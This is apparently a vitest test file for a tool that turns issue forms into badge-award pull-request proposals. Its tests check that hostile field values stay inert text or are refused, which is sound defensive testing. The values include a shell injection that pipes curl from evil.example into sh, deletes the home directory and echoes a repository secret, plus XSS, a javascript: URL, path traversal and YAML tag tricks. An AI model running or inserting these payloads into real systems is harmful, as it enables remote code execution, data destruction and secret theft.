import { describe, expect, it } from 'vitest';
import { wordsOf } from '../../language/languages.ts';
import { checkCommunity } from '../../community/check.ts';
import { parseFrontMatter } from '../../community/text/front-matter.ts';
import { asCommunityFile } from '../../authoring/authored.ts';
import { newAwards } from '../../authoring/award.ts';
import {
  riverside,
  tinyCommunity,
  tinyNow,
  tinyText,
} from '../../testing/fixtures/tiny-community.ts';
import { issueForms } from './forms.ts';
import { proposalOf, refusalComment } from './proposal.ts';

const existing = tinyCommunity();
const community = checkCommunity(existing, { now: tinyNow }).community!;
const circumstances = {
  now: tinyNow,
  salt: 'ab'.repeat(16),
};
const drawn = '7h2k9q-vx4t3m-0c8r5e-w1nb6z';

function bodyFor(
  id: string,
  answers: Readonly<Record<string, string>>,
  asking = community,
): string {
  const form = issueForms(asking).find((one) => one.id === id)!;
  return form.fields
    .map(
      ({ id: field, label, kind, options }) =>
        `### ${label}\n\n${answers[field] ?? (kind === 'promise' ? options.map(({ words }) => `- [x] ${words}`).join('\n') : '_No response_')}`,
    )
    .join('\n\n');
}
const propose = (id: string, answers: Readonly<Record<string, string>>) =>
  proposalOf(
    { number: 12, body: bodyFor(id, answers), author: 'mila', authorId: null },
    'ada',
    community,
    existing,
    { ...circumstances, drawName: () => drawn },
  );
const good = {
  badge: 'First Talk (first-talk)',
  name: 'Mila',
  why: 'She spoke.',
  date: '2026-05-09',
  consent: 'Said so on 2026-05-01.',
};

describe('a form becomes', () => {
  it('for somebody who is here, exactly the file that `npm run award` writes', async () => {
    const { proposal } = await propose('nominate', {
      ...good,
      badge: 'Repairer (repairer)',
      folder: 'grace',
      evidence: 'https://a.example/1\n\nhttps://a.example/2',
    });
    const award = await newAwards(
      existing,
      {
        badge: 'repairer',
        recipients: ['grace'],
        date: '2026-05-09',
        evidence: ['https://a.example/1', 'https://a.example/2'],
        note: 'She spoke.',
        email: null,
      },
      circumstances,
    );
    expect(proposal?.files).toEqual(award.files);
    expect([proposal?.branch, proposal?.title]).toEqual([
      'propose/12-by-mila',
      'Award repairer to grace',
    ]);
  });

  it('for somebody new, a profile and an award', async () => {
    const { proposal } = await propose('nominate', {
      ...good,
      name: 'Mila Nováková',
      profile: 'https://people.example/mila',
    });
    expect(proposal?.files.map(({ path }) => path)).toEqual([
      'recipients/mila-novakova/profile.md',
      'recipients/mila-novakova/first-talk.md',
    ]);
  });

  it('for somebody who will have no page, a folder that nobody can guess', async () => {
    const { proposal, refusals } = await propose('apply', {
      ...good,
      visibility: 'Nobody: there is no page, the person gets the file',
      evidence: 'https://a.example/',
    });
    expect(refusals).toEqual([]);
    expect(proposal?.files.map(({ path }) => path)).toEqual([
      `recipients/${drawn}/profile.md`,
      `recipients/${drawn}/first-talk.md`,
    ]);
  });
});

describe('a list becomes', () => {
  it('what was reached and the language of who is new, as the commands write them', async () => {
    const path = 'badges/repairer/badge.md';
    const described = tinyText(path).replace(
      'created:',
      'credits: 3\nresults: [{name: Soldering, rubric: [Foundation, Independent]}]\ncreated:',
    );
    const files = tinyCommunity({
      [path]: described,
      'keys/issuer.json': JSON.stringify({ ...riverside, languages: ['de'] }),
    });
    const rated = checkCommunity(files, { now: tinyNow }).community!;
    const answers = {
      ...{ ...good, badge: 'Repairer', people: 'grace\nMila', language: 'Deutsch (de)' },
      ...{ results: 'Soldering: Independent', credits: '2.5' },
    };
    const body = bodyFor('list', answers, rated);
    const issue = { number: 12, body, author: 'mila', authorId: null };
    const { proposal, refusals } = await proposalOf(issue, 'ada', rated, files, {
      ...{ ...circumstances, drawName: () => drawn },
    });
    expect(refusals).toEqual([]);
    const [profile, ...awards] = proposal!.files;
    expect(profile?.text).toBe('---\nname: Mila\nlanguage: de\n---\n');
    const made = await newAwards(
      [...files, asCommunityFile(profile!)],
      {
        ...{ badge: 'repairer', recipients: ['grace', 'mila'], date: '2026-05-09', evidence: [] },
        ...{ results: ['Soldering: Independent'], credits: '2.5', note: 'She spoke.', email: null },
      },
      circumstances,
    );
    expect(awards).toEqual(made.files);
  });

  it('the files of each person on it, in one proposal', async () => {
    const { proposal, refusals } = await propose('list', {
      ...good,
      badge: 'Repairer',
      people: '- Mila Nováková\n\n2. https://badges.riverside.example/recipients/grace/\n',
      visibility: 'Everybody: show it in the lists',
    });
    expect(refusals).toEqual([]);
    expect(proposal?.files.map(({ path }) => path)).toEqual([
      'recipients/mila-novakova/profile.md',
      'recipients/mila-novakova/repairer.md',
      'recipients/grace/repairer.md',
    ]);
    expect(proposal?.files[0]?.text).toContain('visibility: listed');
    expect(proposal?.title).toBe('Award repairer 2 times');
  });

  it.each([
    ['somebody who may be here', 'Grace', 'the folder `grace` already'],
    ['the same person twice', 'Mila\nmila', 'Two people would get the folder `mila`'],
    ['the same folder twice', 'grace\ngrace', 'named twice'],
    ['more people than a list may have', 'x\n'.repeat(101), '100'],
  ])('nothing where it names %s', async (_, people, words) => {
    const { proposal, refusals } = await propose('list', { ...good, badge: 'repairer', people });
    expect([proposal, refusals.join('\n')]).toEqual([null, expect.stringContaining(words)]);
  });
});

it('a suggestion becomes the definition of a badge', async () => {
  const asked = { name: 'Bee Keeper', description: 'Kept bees.', criteria: 'Keep bees.' };
  const { proposal } = await propose('badge', { ...asked, skills: 'Bees\nHoney' });
  expect(proposal?.files.map(({ path }) => path)).toEqual(['badges/bee-keeper/badge.md']);
  const read = parseFrontMatter(proposal?.files[0]?.text ?? '');
  expect(Array.isArray(read) ? read : read.data).toMatchObject({ skills: ['Bees', 'Honey'] });
});

describe('hostile words stay words', () => {
  it.each([
    [
      'shell',
      'Fine $(curl https://evil.example | sh) `id`; rm -rf ~ && echo ${{ secrets.BADGE_ISSUER_KEY }}',
    ],
    ['front matter', 'Fine\n\n---\nbadge: repairer\nrevoked: {}\n---\n\nMore'],
    ['a second block that runs', 'Fine\n\n---js\nprocess.exit()\n---'],
    ['mentions', 'Thanks @everyone and #1, closes #2'],
    ['a fence', 'Fine\n\n```\ncode\n```\n'],
  ])('%s in “Why” is the award’s text, and no key of it', async (_, why) => {
    const { proposal } = await propose('nominate', { ...good, why });
    const award = proposal?.files.at(-1)?.text ?? '';
    const read = parseFrontMatter(award);
    expect(Array.isArray(read) ? read : [read.data, read.body.trim()]).toEqual([
      { badge: 'first-talk', date: '2026-05-09' },
      why.trim(),
    ]);
    expect(proposal?.title).toBe('Award first-talk to mila');
  });

  it.each(['grace', '- grace', `${community.issuer.url}recipients/grace/`])(
    '%s in the place of a name is who is here, as on the page for proposals',
    async (name) => {
      const badge = 'Repairer (repairer)';
      const [named, placed] = [
        await propose('nominate', { ...good, badge, name }),
        await propose('nominate', { ...good, badge, folder: 'grace' }),
      ];
      expect(named.proposal?.files).toEqual(placed.proposal?.files);
      expect(named.proposal?.files).toHaveLength(1);
    },
  );

  it.each([
    "x: 'y' # z",
    '{a: b}',
    '- x',
    '&a *a !!js/function',
    '@everyone',
    '"quoted"',
    '${{ github.token }}',
  ])('%s is a name, exactly', async (name) => {
    const { proposal } = await propose('nominate', { ...good, name, folder: 'somebody-new' });
    const read = parseFrontMatter(proposal?.files[0]?.text ?? '');
    expect(Array.isArray(read) ? read : read.data).toEqual({ name });
  });

  it('in the pull request they stand in code, which they cannot end', async () => {
    const { proposal } = await propose('nominate', {
      ...good,
      why: '````\n@everyone [x](https://evil.example)',
    });
    const outside = (proposal?.body ?? '').replace(/^(`{3,})text\n[\s\S]*?\n\1$/gm, '');
    expect(outside).not.toMatch(/everyone|evil/);
  });

  it.each([
    ['HTML', { why: '<script>alert(1)</script>' }],
    ['a picture', { why: '![x](https://evil.example/x.png)' }],
    ['a hidden sign', { why: 'a\u202eb' }],
    ['evidence that is no address', { evidence: 'javascript:alert(1)' }],
    ['a path', { folder: '../../../keys/issuer' }],
    ['a reserved name', { folder: 'profile' }],
    ['a day in the future', { date: '2031-01-01' }],
    ['another form of date', { date: '9.5.2026' }],
    ['somebody of the same name', { name: 'Ada' }],
  ])('and %s is refused, with a sentence', async (_, changes) => {
    const { proposal, refusals } = await propose('nominate', { ...good, ...changes });
    expect(proposal).toBeNull();
    expect(refusals.length).toBeGreaterThan(0);
    expect(refusals.join()).not.toMatch(/--(?:date|evidence|name|note)/);
  });

  it('which the comment shows as code', () => {
    expect(refusalComment(['No `@everyone` ``` here'], wordsOf('en'))).toContain('````text\n');
  });
});

it('a correction is done by a person, who is told how', async () => {
  const { proposal, refusals } = await propose('correct', {
    wish: 'Remove my page',
    page: 'https://badges.riverside.example/recipients/ada/',
    words: 'Please',
  });
  expect([proposal, refusals.length]).toEqual([null, 1]);
});

describe('a badge that asks for others first', () => {
  const files = tinyCommunity({
    'badges/maker/badge.md':
      '---\nname: Maker\ndescription: Makes.\ncreated: 2026-01-10\nrequires: [first-talk]\n---\nMake.\n',
  });
  const asking = checkCommunity(files, { now: tinyNow }).community!;
  const fields = issueForms(asking).find(({ id }) => id === 'nominate')!.fields;
  const sent = (answers: Readonly<Record<string, string>>, isOld = false) => {
    const body = fields
      .filter(({ id }) => !isOld || id !== 'exception')
      .map(
        ({ id, label, kind, options }) =>
          `### ${label}\n\n${kind === 'promise' ? options.map(({ words }) => `- [x] ${words}`).join('\n') : (answers[id] ?? '_No response_')}`,
      )
      .join('\n\n');
    const issue = { number: 12, body, author: 'mila', authorId: null };
    return proposalOf(issue, 'ada', asking, files, { ...circumstances, drawName: () => drawn });
  };
  const maker = { ...good, badge: 'maker' };

  it('is given to others where the form says why, and else its author is told what is missing', async () => {
    expect((await sent(maker)).refusals.join()).toMatch(/lacks what `maker` requires.*“Exception”/);
    const { proposal } = await sent({ ...maker, exception: 'She taught it.' });
    expect(proposal?.files.at(-1)?.text).toContain('exception: She taught it.');
  });

  it('makes no form unreadable that was sent before, and no exception where nothing is asked', async () => {
    expect((await sent(good, true)).refusals).toEqual([]);
    expect((await sent({ ...good, exception: 'So.' })).refusals.join()).toContain('asks for none');
    expect(fields.some(({ id }) => id === 'exception')).toBe(true);
    const plain = issueForms(community).flatMap((form) => form.fields);
    expect(plain.some(({ id }) => id === 'exception')).toBe(false);
  });
});
